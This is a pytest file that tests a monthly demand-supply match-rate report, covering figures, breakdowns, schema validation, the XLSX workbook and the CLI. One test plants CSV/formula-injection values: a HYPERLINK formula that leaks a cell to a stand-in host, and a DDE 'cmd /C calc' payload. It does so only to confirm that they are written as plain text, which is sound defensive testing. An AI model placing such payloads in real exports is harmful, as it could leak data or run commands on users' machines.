"""The monthly match-rate report: figures against hand-counted records, the sample's 2021, and the
three renderings (JSON against its schema, the XLSX opened with openpyxl, the CLI in every format).

The hand-counted records (report month 2021-03; February has no activity at all):

    D1 新一代信息技术/环翠区 posted 01-10   two imported cooperations: ×S1 on 03-10 (30 万), ×S3 on 03-20 (20 万)
    D2 新一代信息技术/文登区 posted 01-20   proposal ×S1 generated 03-02, recommended 03-04, confirmed 03-25 (50 万)
    D3 康养旅游/环翠区 posted 03-05, closed  proposal ×S2 generated 04-02, rejected 04-03
    D4 康养旅游/文登区 posted 03-15         ×S2 generated 03-16, rejected 03-18; ×S3 generated 03-16,
                                            recommended 03-17 and undone (not a review)
    S1 平台甲 新一代信息技术 posted 01-05; S2 平台乙 康养旅游 03-01; S3 平台乙 新一代信息技术 03-02
"""
from __future__ import annotations

import json
import zipfile

import pytest
from jsonschema import Draft202012Validator
from openpyxl import load_workbook

from service import importers, reports, sessions, store
from service.report_schema import REPORT_SCHEMA
from service.report_workbook import write_workbook

from .record_files import sample_files

DEMANDS = [
    {"id": "D1", "title": "需求一", "description": "甲", "industry_cluster": "新一代信息技术", "region": "环翠区",
     "posted_at": "2021-01-10", "status": "已合作"},
    {"id": "D2", "title": "需求二", "description": "乙", "industry_cluster": "新一代信息技术", "region": "文登区",
     "posted_at": "2021-01-20", "status": "已合作"},
    {"id": "D3", "title": "需求三", "description": "丙", "industry_cluster": "康养旅游", "region": "环翠区",
     "posted_at": "2021-03-05", "status": "已关闭"},
    {"id": "D4", "title": "需求四", "description": "丁", "industry_cluster": "康养旅游", "region": "文登区",
     "posted_at": "2021-03-15", "status": "征集中"},
]
SUPPLIES = [
    {"id": "S1", "title": "成果一", "description": "甲", "platform": "平台甲", "industry_cluster": "新一代信息技术",
     "posted_at": "2021-01-05"},
    {"id": "S2", "title": "成果二", "description": "乙", "platform": "平台乙", "industry_cluster": "康养旅游",
     "posted_at": "2021-03-01"},
    {"id": "S3", "title": "成果三", "description": "丙", "platform": "平台乙", "industry_cluster": "新一代信息技术",
     "posted_at": "2021-03-02"},
]
IMPORTED = [
    {"demand_id": "D1", "supply_id": "S1", "confirmed_at": "2021-03-10", "mode": "技术转让", "amount_wan": 30},
    {"demand_id": "D1", "supply_id": "S3", "confirmed_at": "2021-03-20", "mode": "技术服务", "amount_wan": 20},
]
# (demand, supply, generated on, [(status, on, undone)])
PROPOSALS = [
    ("D2", "S1", "2021-03-02", [("recommended", "2021-03-04", False), ("confirmed", "2021-03-25", False)]),
    ("D4", "S2", "2021-03-16", [("rejected", "2021-03-18", False)]),
    ("D4", "S3", "2021-03-16", [("recommended", "2021-03-17", True)]),
    ("D3", "S2", "2021-04-02", [("rejected", "2021-04-03", False)]),
]


def stamp(day: str) -> str:
    return f"{day}T09:30:00+00:00"


@pytest.fixture
def counted(db):
    """The hand-counted records in a real store, decisions dated as the workflow would have written them."""
    store.upsert_records(db, "demands", DEMANDS)
    store.upsert_records(db, "supplies", SUPPLIES)
    store.upsert_cooperations(db, IMPORTED)
    for demand_id, supply_id, generated, decisions in PROPOSALS:
        store.save_proposals(db, [{"demand_id": demand_id, "supply_id": supply_id, "score": 0.7, "dense": 0.7,
                                   "lexical": 0.5, "rank": 1, "reasons": {}}])
        proposal = store.get_proposal_for_pair(db, demand_id, supply_id)
        store.update_proposal(db, proposal["id"], {"generated_at": stamp(generated)})
        before = "proposed"
        for status, day, undone in decisions:
            store.add_decision(db, {"proposal_id": proposal["id"], "demand_id": demand_id, "supply_id": supply_id,
                                    "action": "decide", "from_status": before, "to_status": status,
                                    "actor": "孙立明", "at": stamp(day), "reason": None,
                                    "undone_at": stamp(day) if undone else None})
            before = status
            if status == "confirmed":
                store.add_cooperation(db, {"demand_id": demand_id, "supply_id": supply_id, "confirmed_at": day,
                                           "mode": "委托开发", "amount_wan": 50, "broker": "孙立明",
                                           "proposal_id": proposal["id"]})
    return db


GAPS = {"threshold": 0.5, "items": [{"demand_id": "D4", "best_score": 0.31, "best_supply_id": "S2"}]}


@pytest.fixture
def march(counted):
    return reports.monthly_report(counted, "2021-03", GAPS)


def group(report: dict, dimension: str, key: str) -> dict:
    return next(entry for entry in report["breakdowns"][dimension]["groups"] if entry["key"] == key)


# --- the figures ----------------------------------------------------------------------------------

def test_the_months_figures_match_the_hand_count(march):
    assert march["current"] == {
        "new_demands": 2, "open_demands": 1, "new_supplies": 2, "proposals_generated": 3,
        "proposals_reviewed": 4, "recommended": 3, "rejected": 1, "cooperations": 3, "amount_wan": 100,
        "matched_demands": 2, "match_rate": 1.0, "precision": 0.75,
        "days_to_recommendation": 51.0, "days_to_cooperation": 61.5,
    }


def test_a_month_with_no_activity_reads_zero_and_its_rates_are_null(march):
    february = march["previous"]
    assert february["new_demands"] == february["cooperations"] == february["proposals_reviewed"] == 0
    assert february["open_demands"] == 2     # D1 and D2 were posted and not yet matched
    assert february["match_rate"] is None and february["precision"] is None
    assert february["days_to_cooperation"] is None
    assert march["change"]["new_demands"] == 2 and march["change"]["open_demands"] == -1
    assert march["change"]["match_rate"] is None


def test_a_demand_with_two_cooperations_counts_both_cooperations_but_one_matched_demand(march):
    ytd = march["ytd"]
    assert ytd["cooperations"] == 3 and ytd["matched_demands"] == 2
    assert ytd["new_demands"] == 4 and ytd["match_rate"] == 0.5
    assert group(march, "region", "环翠区")["current"]["cooperations"] == 2
    assert group(march, "region", "环翠区")["current"]["matched_demands"] == 1


def test_imported_cooperations_count_as_reviewed_recommended_and_confirmed(counted):
    april = reports.monthly_report(counted, "2021-04")
    assert april["current"]["proposals_reviewed"] == 1 and april["current"]["rejected"] == 1
    assert april["ytd"]["proposals_reviewed"] == 5 and april["ytd"]["recommended"] == 3
    assert april["ytd"]["precision"] == 0.6


def test_breakdowns_attribute_pairs_to_the_demands_cluster_and_the_supplys_platform(march):
    it = group(march, "cluster", "新一代信息技术")
    assert it["current"]["new_demands"] == 0 and it["current"]["cooperations"] == 3
    assert it["current"]["match_rate"] is None and it["ytd"]["match_rate"] == 1.0
    tourism = group(march, "cluster", "康养旅游")
    assert tourism["current"]["match_rate"] == 0.0 and tourism["current"]["precision"] == 0.0
    assert tourism["gaps"] == 1
    first, second = group(march, "platform", "平台甲"), group(march, "platform", "平台乙")
    assert (first["current"]["cooperations"], first["current"]["amount_wan"]) == (2, 80)
    assert (second["current"]["proposals_reviewed"], second["current"]["precision"]) == (2, 0.5)
    assert first["current"]["new_demands"] is None and first["gaps"] is None
    assert group(march, "region", "文登区")["current"]["new_supplies"] is None
    assert not reports.applies("match_rate", "platform") and reports.applies("cooperations", "platform")
    assert not reports.applies("new_supplies", "region") and reports.applies("new_supplies", "cluster")


def test_the_trend_covers_twelve_months_ending_with_the_report_month(march):
    months = [point["month"] for point in march["trend"]]
    assert months[0] == "2020-04" and months[-1] == "2021-03" and len(months) == 12
    assert march["trend"][-1]["figures"] == march["current"]
    assert [point["ytd_match_rate"] for point in march["trend"][-3:]] == [0.0, 0.0, 0.5]
    assert [point["figures"]["cooperations"] for point in group(march, "platform", "平台乙")["trend"][-3:]] == [0, 0, 1]


def test_the_heat_map_and_the_platform_view(march):
    heat = march["heatmap"]
    cell = heat["cells"][heat["rows"].index("康养旅游")][heat["columns"].index("文登区")]
    assert cell == {"new_demands": 1, "matched_demands": 0, "match_rate": 0.0}
    first = next(row for row in march["platforms"] if row["platform"] == "平台甲")
    assert first == {"platform": "平台甲", "supplies_listed": 1, "new_supplies": 1, "proposals": 1, "recommended": 2,
                     "cooperations": 2, "amount_wan": 80, "demands_served": 2, "precision": 1.0}
    assert [row["platform"] for row in march["platforms"]] == ["平台甲", "平台乙"]


def test_the_months_sessions_and_visits_come_from_the_sessions_module(counted):
    broker = {"role": "broker", "name": "孙立明", "org": None}
    sessions.record_visit(counted, broker, {"enterprise": "威海某企业", "visited_on": "2021-03-12", "region": "环翠区"})
    report = reports.monthly_report(counted, "2021-03")
    assert report["activities"]["visits_made"] == 1 and report["activities"]["sessions_held"] == 0
    assert reports.monthly_report(counted, "2021-04")["activities"]["visits_made"] == 0


def test_the_gap_list_is_optional(counted, march):
    assert march["gaps"]["items"][0]["industry_cluster"] == "康养旅游"
    assert march["gaps"]["by_region"] == {"文登区": 1}
    without = reports.monthly_report(counted, "2021-03")
    assert without["gaps"]["available"] is False and without["current"] == march["current"]


@pytest.mark.parametrize("month", ["2021-13", "2021-3", "", "二〇二一年三月"])
def test_a_malformed_month_is_refused_in_chinese(counted, month):
    with pytest.raises(reports.ReportError, match="YYYY-MM"):
        reports.monthly_report(counted, month)



@pytest.mark.parametrize("month", ["0000-01", "0001-11", "1899-12"])
def test_a_month_out_of_range_is_refused_in_chinese(counted, month, invoke):
    with pytest.raises(reports.ReportError, match="超出范围，应在 1900-01 至 9999-12 之间"):
        reports.monthly_report(counted, month)
    result = invoke("report", "--month", month, "--no-gaps")
    assert result.exit_code == 2 and "超出范围" in result.output

def test_the_report_validates_against_its_schema(march, counted):
    validator = Draft202012Validator(REPORT_SCHEMA)
    Draft202012Validator.check_schema(REPORT_SCHEMA)
    for report in (march, reports.monthly_report(counted, "2021-02"), json.loads(reports.render_json(march))):
        assert not list(validator.iter_errors(report))
    broken = {**march, "current": {**march["current"], "match_rate": "高"}}
    assert list(validator.iter_errors(broken))


# --- the sample's 2021 -------------------------------------------------------------------------------

@pytest.fixture
def sample(db):
    for kind in ("demands", "supplies", "cooperations"):
        importers.import_files(db, kind, sample_files(kind))
    return db


def test_the_sample_reads_73_cooperations_over_227_demands_for_2021(sample):
    report = reports.monthly_report(sample, "2021-12")
    ytd = report["ytd"]
    assert (ytd["cooperations"], ytd["new_demands"], ytd["new_supplies"]) == (73, 227, 359)
    assert ytd["matched_demands"] == 64 and ytd["match_rate"] == round(64 / 227, 4)
    assert ytd["proposals_reviewed"] == ytd["recommended"] == 73 and ytd["precision"] == 1.0
    assert sum(row["cooperations"] for row in report["platforms"]) == 73
    assert len(report["platforms"]) == 25
    assert sum(entry["ytd"]["new_demands"] for entry in report["breakdowns"]["region"]["groups"]) == 227
    assert [entry["key"] for entry in report["breakdowns"]["cluster"]["groups"]][0] == "新一代信息技术"


# --- the workbook --------------------------------------------------------------------------------------

def test_the_workbook_has_the_figures_chinese_headers_charts_and_a4_setup(march, tmp_path):
    path = write_workbook(march, tmp_path / "report.xlsx")
    book = load_workbook(path)
    assert book.sheetnames == ["概要", "月度趋势", "按产业集群", "按平台", "按区市", "集群×区市", "平台绩效",
                               "缺口清单", "指标口径"]
    summary = book["概要"]
    assert [cell.value for cell in summary[4]] == ["指标", "本月", "上月", "环比变化", "本年累计", "口径"]
    generated = [cell.value for row in summary.iter_rows(max_row=3) for cell in row if "生成于" in str(cell.value)]
    assert generated and "北京时间" in generated[0] and "UTC" not in generated[0]  # as the pages show times
    rows = {row[0].value: [cell.value for cell in row[1:5]] for row in summary.iter_rows(min_row=5)}
    assert rows["确认合作"] == [3, 0, 3, 3]
    assert rows["匹配率"] == [1.0, None, None, 0.5]
    assert summary.cell(row=5 + [f.key for f in reports.FIGURES].index("match_rate"), column=2).number_format == "0.0%"
    platforms = book["平台绩效"]
    assert [cell.value for cell in platforms[4]][:3] == ["平台", "在库成果", "本年新增成果"]
    assert [cell.value for cell in platforms[5]][:6] == ["平台甲", 1, 1, 1, 2, 2]
    assert book["缺口清单"]["A5"].value == "D4"
    for sheet in book.worksheets:
        assert int(sheet.page_setup.paperSize) == 9    # A4
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.page_setup.fitToWidth == 1
        assert sheet.column_dimensions["A"].width >= 10
    # openpyxl does not read charts back: look for them in the package itself.
    with zipfile.ZipFile(path) as package:
        charts = [name for name in package.namelist() if name.startswith("xl/charts/chart")]
        xml = "".join(package.read(name).decode("utf-8") for name in charts)
    assert len(charts) == 6
    assert xml.count("<lineChart>") == 1 and xml.count("<barChart>") == 5
    assert "匹配率趋势" in xml


HOSTILE_TITLE = '=HYPERLINK("http://x?leak="&A1,"x")'
HOSTILE_PLATFORM = "=1+2"
HOSTILE_REGION = "-2+3+cmd|' /C calc'!A0"


def test_user_text_in_the_workbook_is_text_never_a_formula(counted, tmp_path):
    store.upsert_records(counted, "demands", [{"id": "D9", "title": HOSTILE_TITLE, "description": "注入",
                                               "region": HOSTILE_REGION, "posted_at": "2021-03-08"}])
    store.upsert_records(counted, "supplies", [{"id": "S9", "title": "@SUM(1+1)", "description": "注入",
                                                "platform": HOSTILE_PLATFORM, "posted_at": "2021-03-08"}])
    store.upsert_cooperations(counted, [{"demand_id": "D4", "supply_id": "S9", "confirmed_at": "2021-03-28",
                                         "amount_wan": 5}])
    gaps = {"threshold": 0.5, "items": [{"demand_id": "D9", "best_score": 0.2, "best_supply_id": "S9"}]}
    book = load_workbook(write_workbook(reports.monthly_report(counted, "2021-03", gaps), tmp_path / "r.xlsx"))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    hostile = [cell for cell in cells if cell.value in (HOSTILE_TITLE, HOSTILE_PLATFORM, HOSTILE_REGION)]
    assert {"缺口清单", "按平台", "平台绩效", "按区市", "集群×区市"} <= {cell.parent.title for cell in hostile}
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)
    assert book["平台绩效"]["B5"].data_type == "n"   # the figures stay numbers


# --- the command line ----------------------------------------------------------------------------------

def test_the_cli_writes_all_three_formats(sample, invoke, tmp_path):
    result = invoke("report", "--month", "2021-12", "--format", "json", "--no-gaps")
    assert result.exit_code == 0
    report = json.loads(result.output)
    assert not list(Draft202012Validator(REPORT_SCHEMA).iter_errors(report))
    assert (report["ytd"]["cooperations"], report["ytd"]["new_demands"]) == (73, 227)

    result = invoke("report", "--month", "2021-12", "--format", "xlsx", "-o", tmp_path / "r.xlsx", "--no-gaps")
    assert result.exit_code == 0 and "本年累计确认合作 73 项" in result.output
    assert load_workbook(tmp_path / "r.xlsx")["概要"]["A1"].value == "两清单月度匹配报告 · 2021 年 12 月"

    result = invoke("report", "--month", "2021-12", "--format", "html", "-o", tmp_path / "r.html", "--no-gaps")
    assert result.exit_code == 0
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "两清单月度匹配报告 · 2021 年 12 月" in page and "<script" not in page
    assert page.count('class="chart chart-') == 4 and "Noto Sans CJK SC" in page and "@page" in page


@pytest.mark.parametrize("args, message", [
    (("--month", "2021-13"), "格式有误"),
    (("--month", "12/2021"), "格式有误"),
    (("--month", "2021-12", "--format", "xlsx"), "须用 -o"),
])
def test_the_cli_refuses_bad_input_with_exit_status_2(invoke, args, message):
    result = invoke("report", *args, "--no-gaps")
    assert result.exit_code == 2 and message in result.output
